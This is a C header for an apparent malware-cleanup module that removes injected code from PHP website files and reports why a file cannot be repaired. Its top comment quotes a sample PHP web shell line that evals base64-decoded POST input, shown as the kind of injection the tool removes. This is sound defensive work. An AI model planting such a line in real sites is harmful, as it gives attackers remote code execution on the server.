#ifndef SCAN_MEND_H
#define SCAN_MEND_H

/*
 * mend - a site's own PHP file that something was injected into, as it was before.
 *
 *     <?php
 *     $k = 'b2s='; eval(base64_decode($_POST[$k]));      ←  these two statements
 *     require __DIR__ . '/wp-blog-header.php';
 *
 * A rule accuses a line. From there the injection grows over the statements beside it
 * that share its variables and functions; clean.h takes it out; what is left is examined
 * again, until nothing malicious is left in it, not even a remark. Two things are asked
 * for besides: nothing that stays uses what went, and what stays is somebody's work: a
 * program or a page, not the greeting in front of a shell. So a shell is never mended
 * into a smaller shell, and a file that the site needs is not taken away whole.
 *
 * Pure. What accuses a file only together with other files of its site is not seen here.
 */

#include "scan/subject.h"

#define MEND_BYTES_MAX ((size_t)2 << 20)
#define MEND_PIECES_MAX 100000u
#define MEND_CUTS_MAX 8u
#define MEND_ARENA_BYTES ((size_t)32 << 20) /* of `arena`; `scratch` is as large as examine.h's */

enum mend_verdict {
    MEND_DONE,
    MEND_NO_PHP,  /* nothing but PHP is mended */
    MEND_UNSEEN,  /* by itself the file is not accused */
    MEND_MIXED,   /* what accuses it cannot be told from the rest of the file */
    MEND_NEEDED,  /* the same, and the site does not run without the file */
    MEND_NOTHING, /* without it nothing is left that a site would miss */
    MEND_LIMIT,
};
#define MEND_VERDICT_COUNT 7

/*
 * `subject` is the file as it was scanned. `arena` owns the result; `scratch` is reset
 * again and again. `ret_rest` is set when it is MEND_DONE only.
 */
enum mend_verdict mend_file(const struct subject *subject, struct arena *arena,
                            struct arena *scratch, struct str *ret_rest);

/* Why not, in a sentence without its full stop. */
const char *mend_verdict_text(enum mend_verdict verdict);

#endif
